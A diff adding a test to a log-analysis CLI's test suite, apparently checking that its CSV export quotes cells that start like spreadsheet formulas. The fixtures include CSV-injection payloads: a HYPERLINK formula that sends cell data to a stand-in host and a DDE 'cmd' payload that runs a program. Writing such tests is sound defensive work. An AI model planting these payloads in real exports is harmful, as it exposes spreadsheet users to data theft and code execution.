@@ -3,7 +3,7 @@
  * a phone number at a sentence's end, key separators written full-width, percent-encoded or as Gson's
  * escapes, a context line cut inside a value before redaction, registry text printed raw by `explain`,
  * a report written over an existing file keeping its mode, and `--year` / `--busy-timeout` values that
- * were taken as they came.
+ * were taken as they came; and CSV cells a spreadsheet would run as formulas (round eighteen).
  */
 import { chmodSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
@@ -111,6 +111,36 @@ describe('text from a registry file on a terminal, and files written', () => {
       expect(statSync(out).mode & 0o777).toBe(0o600);
       expect(readFileSync(out, 'utf8')).not.toBe('old');
     }
+  });
+});
+
+describe('CSV a spreadsheet opens', () => {
+  it('a log-derived cell that starts like a formula starts with a quote; numbers and other text are as stored', () => {
+    // a tag and messages an app controls, each an Authing event of the capture's process
+    const { db } = ingest(capture(
+      1,
+      '03-17 16:13:38.811  4672  4672 W =HYPERLINK("http://x.test/?"&A1): cn.authing.guard callback code: 10009, message: x',
+      '03-17 16:13:38.812  4672  4672 W AuthRepository: =cmd|\' /C calc\'!A0 cn.authing.guard callback code: 10010, message: x',
+      '03-17 16:13:38.813  4672  4672 W AuthRepository: --> POST /api/v3/signin cn.authing.guard callback code: 10011, message: x',
+      '03-17 16:13:38.814  4672  4672 W AuthRepository: +1 @SUM(A1) cn.authing.guard callback code: 10012, message: x',
+    ));
+    const sql = "SELECT code, tag, excerpt, -1 AS minus FROM events WHERE code BETWEEN 10009 AND 10012 AND line <= 4 ORDER BY line";
+    const stored = query<{ code: number; tag: string; excerpt: string }>(db, sql);
+    expect(stored.map((r) => r.code)).toEqual([10009, 10010, 10011, 10012]);
+    const r = runCli(['sql', '--db', db, '--format', 'csv', sql]);
+    expect(r.status, r.stderr).toBe(0);
+    const rows = r.stdout.trimEnd().split('\r\n').slice(1);
+    expect(rows).toHaveLength(4);
+    // no text cell of the CSV, quoted or not, starts with a formula's first character (the last cell is the number)
+    for (const row of rows) expect(row.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).slice(0, -1).map((c) => c.replace(/^"/, ''))).not.toContainEqual(expect.stringMatching(/^[=+\-@]/));
+    expect(rows[0]).toMatch(/^10009,"'=HYPERLINK\(""http:/);
+    expect(rows[1]).toContain(',"\'=cmd|');
+    expect(rows[2]).toContain(',"\'--> POST');
+    expect(rows[3]).toContain(',"\'+1 @SUM(A1)');
+    // a number is a number: -1 as it is
+    for (const row of rows) expect(row.endsWith(',-1')).toBe(true);
+    // the rest of each cell is the stored text
+    expect(rows[2]).toContain(`'${stored[2]!.excerpt}`);
   });
 });
 
